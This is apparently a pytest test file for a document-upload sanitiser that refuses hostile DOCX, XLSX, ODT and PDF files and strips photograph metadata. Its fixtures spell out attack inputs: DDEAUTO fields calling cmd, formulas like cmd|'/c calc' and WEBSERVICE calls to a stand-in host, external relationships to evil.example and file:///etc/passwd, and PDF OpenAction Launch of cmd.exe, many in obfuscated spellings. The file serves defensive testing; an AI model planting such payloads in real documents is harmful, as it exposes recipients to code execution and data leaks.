"""Hostile documents are refused in every spelling; photographs inside documents lose their metadata."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from PIL import Image
from pypdf import PdfReader

from kerege.core.uploads import image_metadata, office_cleaner, pdf_cleaner
from kerege.core.uploads.file_types import RefusedFile
from tests.core.uploads import samples

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:'
    'drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:w="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
)


def why(clean: Callable[[bytes, str], bytes], data: bytes, kind: str) -> str:
    """Return the code for which a document is refused; '' when it is accepted."""
    try:
        clean(data, kind)
    except RefusedFile as refused:
        return refused.code
    return ""


def related(relationship: str, name: str = "word/_rels/extra.xml.rels") -> bytes:
    """Return a DOCX with one more relationship."""
    all_of_them = f'<Relationships xmlns="{PACKAGE}">{relationship}</Relationships>'
    return samples.with_part(samples.docx(), name, all_of_them)


def said(body: str) -> bytes:
    """Return a DOCX with a further part of text."""
    return samples.with_part(samples.docx(), "word/header9.xml", f'<w:hdr xmlns:w="{WORD}"><w:p>{body}</w:p></w:hdr>')


def calculated(formula: str, name: str = "f") -> bytes:
    """Return an XLSX with a formula."""
    cell = f'<c r="A1"><{name}>{formula}</{name}></c>'
    sheet = f'<worksheet xmlns="{SHEET}"><sheetData><row>{cell}</row></sheetData></worksheet>'
    return samples.with_part(samples.xlsx(), "xl/worksheets/sheet9.xml", sheet)


def written(body: str) -> bytes:
    """Return an ODT with this content."""
    return samples.odt(**{"content.xml": f"<office:document-content {ODF}>{body}</office:document-content>"})


BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))


def code(*parts: str) -> str:
    """Return a field whose code is split into these pieces."""
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    return f"{BEGIN}{runs}{END}"


AWAY = "http://evil.example/a.dotm"
OUT = 'TargetMode="External"'
LINKED = {
    "the target looks like a hyperlink": f'<Relationship Id="r" Type="{TYPE}image" Target="x:/hyperlink" {OUT}/>',
    "single quotes": f"<Relationship Id='r' Type='{TYPE}image' Target='{AWAY}' TargetMode='External'/>",
    "spaces": f'<Relationship Id="r" Type="{TYPE}image" Target="{AWAY}" TargetMode = "External"/>',
    "character references": f'<Relationship Id="r" Type="{TYPE}image" Target="{AWAY}" TargetMode="Externa&#108;"/>',
    "a prefix": f'<p:Relationship xmlns:p="{PACKAGE}" Id="r" Type="{TYPE}image" Target="{AWAY}" {OUT}/>',
    "an angle bracket": f'<Relationship Id="r>9" Type="{TYPE}image" Target="{AWAY}" {OUT}/>',
    "not said to be outside": f'<Relationship Id="r" Type="{TYPE}image" Target="{AWAY}"/>',
    "a share": rf'<Relationship Id="r" Type="{TYPE}hyperlink" Target="\\evil\x" {OUT}/>',
    "a file": f'<Relationship Id="r" Type="{TYPE}hyperlink" Target="file:///etc/passwd" {OUT}/>',
    "a script": f'<Relationship Id="r" Type="{TYPE}hyperlink" Target="javascript:x" {OUT}/>',
}


@pytest.mark.parametrize("relationship", LINKED.values(), ids=LINKED.keys())
def test_only_a_plain_hyperlink_leads_outside_however_the_relationship_is_written(relationship: str) -> None:
    assert why(office_cleaner.clean, related(relationship), "docx") == "linked"


def test_the_name_of_a_part_counts_in_any_case() -> None:
    relationship = f'<Relationship Id="r" Type="{TYPE}image" Target="{AWAY}" TargetMode="External"/>'
    assert why(office_cleaner.clean, related(relationship, "word/_rels/extra.xml.RELS"), "docx") == "linked"
    assert why(office_cleaner.clean, related(relationship, "word/innocent.dat"), "docx") == "linked"


@pytest.mark.parametrize("target", ["https://example.org/hyperlink?a=1", "mailto:a@example.org", "#here", "other.docx"])
def test_a_hyperlink_may_be_followed_by_a_person(target: str) -> None:
    link = f'<Relationship Id="r" Type="{TYPE}hyperlink" Target="{target}" TargetMode="External"/>'
    assert why(office_cleaner.clean, related(link), "docx") == ""


@pytest.mark.parametrize(
    "body",
    [
        code("INCLUDEPICTURE &quot;http://e/a.png&quot; \\d"),
        code(" includetext ", "&quot;http://e/a&quot;"),
        code("INCL", "UDEPICTURE x"),
        code("LINK Excel.Sheet.8 x"),
        code("DDEAUTO c:\\\\cmd x"),
        code("DDE cmd x"),
        code("DATABASE x"),
        code("IF 1=1 ") + code("INCLUDEPICTURE x"),
        f"{BEGIN}{code('QUOTE DDE')}<w:r><w:instrText>AUTO x</w:instrText></w:r>{END}",
        "<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>",
        f"{BEGIN}<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>",
        '<w:fldSimple w:instr="INCLUDEPICTURE x"/>',
        '<w:subDoc w:id="1"/>',
        '<w:altChunk w:id="1"/>',
        "<w:mailMerge/>",
    ],
)
def test_a_field_that_fetches_or_runs_is_refused_also_in_pieces_and_inside_another(body: str) -> None:
    assert why(office_cleaner.clean, said(body), "docx") == "linked"


@pytest.mark.parametrize(
    "body",
    [
        code("PAGE \\* MERGEFORMAT"),
        code(" TOC \\o ", "&quot;1-3&quot; \\h"),
        code("=SUM(ABOVE)"),
        code("HYPERLINK &quot;http://e/LINK&quot;"),
        f"{BEGIN}<w:r><w:instrText>IF </w:instrText></w:r>{code('PAGE')}<w:r><w:instrText>=1</w:instrText></w:r>{END}",
        "<w:r><w:t>DDEAUTO and INCLUDEPICTURE, as words</w:t></w:r>",
        "<w:r><w:object/></w:r>",
    ],
)
def test_a_field_of_the_document_itself_stays(body: str) -> None:
    assert why(office_cleaner.clean, said(body), "docx") == ""


@pytest.mark.parametrize(
    ("reason", "document"),
    [
        ("active", related(f'<Relationship Id="r" Type="{TYPE}oleObject" Target="media/ole1.dat"/>')),
        ("active", samples.with_part(samples.docx(), "word/media/image1.dat", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 9)),
        ("active", related(f'<Relationship Id="r" Type="{TYPE}aFChunk" Target="x.html"/>')),
        ("active", samples.with_part(samples.docx(), "word/x.xml", "<html><body/></html>")),
        ("active", samples.with_part(samples.docx(), "word/x.rtf", r"{\rtf1 x}")),
        ("active", samples.with_part(samples.docx(), "word/y.png", "PK\3\4")),
        ("active", samples.with_part(samples.docx(), "word/x.svg", '<svg onload="x()"/>')),
        ("active", samples.with_part(samples.docx(), "word/x.xml", "<!DOCTYPE a><a/>")),
        ("active", samples.with_part(samples.docx(), "word/x.xml", "<a/>".encode("utf-16"))),
        ("damaged", samples.with_part(samples.docx(), "word/x.xml", '<?xml version="1.0" encoding="utf-7"?><a/>')),
        ("damaged", samples.with_part(samples.docx(), "word/x.xml", "<a><b></a>")),
        (
            "active",
            samples.with_part(
                samples.docx(),
                "word/x.xml",
                '<Override ContentType="application/macro&#69;nabled"/>',
            ),
        ),
    ],
)
def test_embedded_content_is_recognised_by_relationship_type_and_content(reason: str, document: bytes) -> None:
    assert why(office_cleaner.clean, document, "docx") == reason


@pytest.mark.parametrize(
    "formula",
    [
        '_xlfn.WEBSERVICE("http://e/?"&amp;A2)',
        "cmd|'/c calc'!A0",
        "'cmd'|'/c calc'!A0",
        "[1]Sheet1!A1",
        "'[1]My sheet'!A1",
        "'http://e/[a.xlsx]S'!A1",
        '_xlfn.IMAGE("http://e/a.png")',
        'RTD("x",,"y")',
        "WEB<![CDATA[SERVICE]]>(A1)",
    ],
)
def test_a_formula_that_asks_a_server_a_program_or_another_book_is_refused(formula: str) -> None:
    assert why(office_cleaner.clean, calculated(formula), "xlsx") == "linked"
    assert why(office_cleaner.clean, calculated(formula, "definedName"), "xlsx") == "linked"


@pytest.mark.parametrize("formula", ["SUM(A1:A9)", "Table1[Col]*2", "'my sheet'!A1", '"a|b"&amp;A1', "[@Qty]*S2!A1"])
def test_a_formula_of_the_table_itself_stays(formula: str) -> None:
    assert why(office_cleaner.clean, calculated(formula), "xlsx") == ""


def test_a_table_filled_from_an_outside_source_is_refused() -> None:
    web = '<connections><connection id="1"><webPr url="http://e/x"/></connection></connections>'
    assert why(office_cleaner.clean, samples.with_part(samples.xlsx(), "xl/connections.xml", web), "xlsx") == "linked"


@pytest.mark.parametrize(
    ("reason", "body"),
    [
        ("linked", "<draw:image xlink:href='http://e/a.png'/>"),
        ("linked", "<draw:image xlink:href='&#104;ttp://e/a.png'/>"),
        ("linked", '<draw:image xlink:href="../a.png"/>'),
        ("linked", '<text:section><text:section-source xlink:href="http://e/a.odt"/></text:section>'),
        ("linked", '<office:dde-source office:dde-application="soffice"/>'),
        ("linked", '<text:a xlink:href="vnd.sun.star.script:x"/>'),
        ("active", "<draw:object/>"),
        ("active", "<w:object/>"),
        ("active", "<office:binary-data>AAAA</office:binary-data>"),
        ("", '<draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://example.org">x</text:a>'),
    ],
)
def test_a_text_document_fetches_nothing_however_it_is_written(reason: str, body: str) -> None:
    assert why(office_cleaner.clean, written(body), "odt") == reason


def test_author_data_is_removed_from_a_part_of_any_name() -> None:
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">'
        "<creator>canary</creator></cp:coreProperties>"
    )
    document = samples.with_part(samples.docx(), "package/services/metadata/x.psmdcp", core)
    after = zipfile.ZipFile(io.BytesIO(office_cleaner.clean(document, "docx")))
    assert b"canary" not in after.read("package/services/metadata/x.psmdcp")


def test_many_parts_that_unpack_to_far_more_than_the_file_are_a_bomb() -> None:
    document = samples.docx()
    with zipfile.ZipFile(io.BytesIO(document)) as before:
        parts: dict[str, Any] = {part: before.read(part) for part in before.namelist()}
    parts |= {f"word/b{number}.xml": "<a>" + "x" * 990_000 + "</a>" for number in range(30)}
    assert why(office_cleaner.clean, samples.archive(parts), "docx") == "bomb"


# -- pdf ---------------------------------------------------------------------------------------------------------------
PAGES = ["<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]


def pdf(catalog: str, *more: str | bytes, page: str = "") -> bytes:
    """Return a PDF of these objects; the first is the catalogue."""
    pages = [PAGES[0], PAGES[1][:-2] + page + ">>"]
    out, places = b"%PDF-1.7\n", []
    for number, pdf_object in enumerate([f"<</Type/Catalog/Pages 2 0 R{catalog}>>", *pages, *more], 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (
            number,
            pdf_object if isinstance(pdf_object, bytes) else pdf_object.encode(),
        )
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    return (
        out + head + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(out))
    )


@pytest.mark.parametrize(
    ("reason", "document"),
    [
        ("active", pdf("/OpenAction<</S 4 0 R/F(cmd.exe)>>", "/Launch")),
        ("active", pdf("/OpenAction 4 0 R", "<</S 5 0 R/F(cmd.exe)>>", "/Launch")),
        ("active", pdf("/OpenAction<</S/L#61unch/F(cmd.exe)>>")),
        ("linked", pdf("/OpenAction<</S/URI/URI(http://e/)>>")),
        ("linked", pdf("/OpenAction 4 0 R", "<</S 5 0 R/URI(http://e/)>>", "/URI")),
        ("linked", pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://e/)>>>>")),
        ("active", pdf(r"/OpenAction<</S/GoToR/F(\\\\e\\x.pdf)/D[0/Fit]>>")),
        ("active", pdf("", "<</Subtype/Link/A<</S 5 0 R/F(x)>>>>", "/SubmitForm", page="/Annots[4 0 R]")),
        ("active", pdf("", "<</O<</S/URI/URI(http://e/)>>>>", page="/AA 4 0 R")),
        ("active", pdf("/Names 4 0 R", "<</JavaScript 5 0 R>>", "<</Names[(a) 6 0 R]>>", "<</S/JavaScript/JS(x)>>")),
        ("active", pdf("/Names 4 0 R", "<</EmbeddedFiles 5 0 R>>", "<</Names[(a)<</Type/Filespec>>]>>")),
        ("active", pdf("", "<</Subtype 5 0 R>>", "/FileAttachment", page="/Annots[4 0 R]")),
        ("active", pdf("", "<</Subtype/Link/A<</S/Unheard/F(x)>>>>", page="/Annots[4 0 R]")),
        ("linked", pdf("", "<</Subtype/Link/A<</S/URI/URI(file:///x)>>>>", page="/Annots[4 0 R]")),
        ("linked", pdf("", b"<</F(http://e/x)/Length 1>>\nstream\nx\nendstream", page="/Contents 4 0 R")),
        ("", pdf("/OpenAction[3 0 R/Fit]")),
        ("", pdf("", "<</Subtype/Link/A<</S/URI/URI(https://example.org)>>>>", page="/Annots[4 0 R]")),
    ],
)
def test_a_pdf_with_active_content_is_refused_also_behind_references(reason: str, document: bytes) -> None:
    assert why(pdf_cleaner.clean, document, "pdf") == reason


# -- photographs inside ------------------------------------------------------------------------------------------------
def told(picture: bytes) -> list[str]:
    """Return the canary texts that an image still holds."""
    return [word for word in ("canary-author", "canary-comment", "canary-text") if word.encode() in picture]


def png() -> bytes:
    """Return an image with a text chunk and an EXIF chunk."""
    plain = samples.image("PNG")
    text = b"tEXtAuthor\0canary-text"
    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    return plain[:33] + chunk + plain[33:]


def photographs() -> dict[str, bytes]:
    """Return images of several formats with metadata."""
    exif = Image.Exif()
    exif[0x013B] = "canary-author"
    return {
        "jpeg": samples.photograph() + b"canary-text behind it",
        "png": png(),
        "webp": samples.image("WEBP", exif=exif.tobytes(), xmp=b"canary-text"),
        "gif": samples.image("GIF", comment=b"canary-comment"),
        "tiff": samples.image("TIFF", tiffinfo={0x013B: "canary-author"}),
        "emf": b"\1\0\0\0" + bytes(36) + b" EMF" + samples.photograph().replace(b"canary-comment", b""),
    }


PHOTOGRAPHS = photographs()


@pytest.mark.parametrize("kind", PHOTOGRAPHS)
@pytest.mark.parametrize("make", [samples.docx, samples.xlsx, samples.odt])
def test_a_photograph_inside_a_document_loses_its_metadata(kind: str, make: Any) -> None:
    assert told(PHOTOGRAPHS[kind])
    document = samples.with_part(make(), "word/media/image1.x", PHOTOGRAPHS[kind])
    after = zipfile.ZipFile(io.BytesIO(office_cleaner.clean(document, ""))).read("word/media/image1.x")
    assert not told(after)
    if kind != "emf":
        picture, before = Image.open(io.BytesIO(after)), Image.open(io.BytesIO(PHOTOGRAPHS[kind]))
        assert not picture.getexif().get_ifd(0x8825)
        assert picture.convert("RGB").tobytes() == before.convert("RGB").tobytes()


def test_a_photograph_inside_a_document_stays_upright() -> None:
    after = Image.open(io.BytesIO(image_metadata.strip_metadata(samples.photograph())))
    assert dict(after.getexif()) == {0x0112: 6}


@pytest.mark.parametrize("packed", [False, True])
def test_a_photograph_inside_a_pdf_loses_its_metadata(packed: bool) -> None:
    photograph = samples.photograph()
    data = zlib.compress(photograph) if packed else photograph
    stream = b"<</Subtype/Image/Width 40/Height 30/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter %b/Length %d>>"
    name = b"[/FlateDecode/DCTDecode]" if packed else b"/DCTDecode"
    image = stream % (name, len(data)) + b"\nstream\n" + data + b"\nendstream"
    after = pdf_cleaner.clean(pdf("", image, page="/Resources<</XObject<</I 4 0 R>>>>"), "pdf")
    assert not told(after)
    shown = PdfReader(io.BytesIO(after)).pages[0].images[0]
    assert shown.image is not None
    assert shown.image.size == (40, 30)
    assert not told(shown.data)


def test_an_ordinary_table_with_comments_links_charts_and_pictures_is_accepted() -> None:
    from openpyxl import Workbook
    from openpyxl.chart import BarChart, Reference
    from openpyxl.comments import Comment
    from openpyxl.drawing.image import Image as Picture
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["A2"], sheet["A3"] = 1, "=SUM(A1:A1)*2", '=HYPERLINK("https://example.org","x")'
    sheet["B1"].comment = Comment("a word", "somebody")
    sheet["B2"].hyperlink = "https://example.org/a"
    rule = DataValidation(type="list", formula1='"a,b"')
    sheet.add_data_validation(rule)
    rule.add("C1")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=2))
    sheet.add_chart(chart, "D1")
    sheet.add_image(Picture(io.BytesIO(samples.image())), "E1")
    book.defined_names["part"] = DefinedName("part", attr_text="Sheet!$A$1")
    out = io.BytesIO()
    book.save(out)
    after = office_cleaner.clean(out.getvalue(), "xlsx")
    assert why(office_cleaner.clean, after, "xlsx") == ""


def test_an_ordinary_letter_with_a_picture_and_a_link_is_accepted() -> None:
    from docx import Document

    letter = Document()
    letter.add_heading("a letter")
    letter.add_picture(io.BytesIO(samples.photograph()))
    letter.part.relate_to("https://example.org", f"{TYPE}hyperlink", is_external=True)
    letter.sections[0].footer.paragraphs[0].text = "page"
    out = io.BytesIO()
    letter.save(out)
    assert why(office_cleaner.clean, office_cleaner.clean(out.getvalue(), "docx"), "docx") == ""
